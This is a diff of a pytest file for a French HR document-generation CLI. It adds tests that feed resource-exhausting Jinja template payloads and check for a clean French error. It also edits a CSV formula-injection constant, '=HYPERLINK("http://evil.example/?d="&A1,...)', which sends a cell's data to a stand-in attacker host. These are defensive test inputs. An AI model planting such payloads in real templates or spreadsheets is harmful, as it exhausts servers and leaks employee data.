@@ -38,6 +38,18 @@ def test_an_unknown_matricule_is_an_error_to_fix(tmp_path):
     assert not (tmp_path / "x.docx").exists()
 
 
+@pytest.mark.parametrize("payload", ["{% macro f(n) %}{{ f(n+1) }}{% endmacro %}{{ f(1) }}",
+                                     "{{ 7**(10**8) }}", "{% for i in range(10**9) %}x{% endfor %}"])
+def test_a_template_past_a_rendering_limit_is_a_french_error_without_traceback(tmp_path, payload):
+    template = tmp_path / "piege.docx"
+    template.write_bytes(make_docx("Bonjour", payload))
+    result = invoke("generate", template, "--data", SAMPLES, "--matricule", "E0003",
+                    "--valeurs", SAMPLES / "campagne.json", "--out", tmp_path / "x.docx")
+    assert result.exit_code == 2 and isinstance(result.exception, (SystemExit, type(None)))
+    assert "Erreur" in result.output and "limite dépassée" in result.output and "piege.docx" in result.output
+    assert "Traceback" not in result.output and not (tmp_path / "x.docx").exists()
+
+
 def test_bad_data_names_the_line_and_column_and_imports_nothing(tmp_path):
     data = tmp_path / "data"
     shutil.copytree(SAMPLES, data)
@@ -99,6 +111,18 @@ def test_due_prints_who_must_be_convoked():
     assert wrong.exit_code == 2 and "--before" in wrong.output
 
 
+def test_due_names_the_employees_it_cannot_compute_and_lists_the_others():
+    # Seen from 1 January 2024, the interviews the samples record as held after it are impossible:
+    # those employees are named, the others listed, and the exit status says something is wrong.
+    result = invoke("due", "--before", "2024-12-31", "--le", "2024-01-01", "--effectif", "120", "--data", SAMPLES,
+                    "--json")
+    assert result.exit_code == 1
+    named = [line for line in result.output.splitlines() if line.startswith("Erreur : salarié ")]
+    assert named and all("après la date de référence" in line for line in named)
+    listed = {line.split('"')[3] for line in result.output.splitlines() if line.strip().startswith('"matricule"')}
+    assert listed - {line.split()[3] for line in named}  # the others are there
+
+
 def test_due_as_json_and_csv_carry_the_abondement():
     import csv as csv_module
     import json
@@ -119,7 +143,7 @@ def test_due_as_json_and_csv_carry_the_abondement():
     assert all(row["libelle"] == row["libelle"].strip() and "…" not in row["libelle"] for row in rows)
 
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Ici")'  # a matricule: 50 characters at most
 
 
 def test_due_as_csv_neutralises_a_formula_in_an_employee_name(tmp_path):
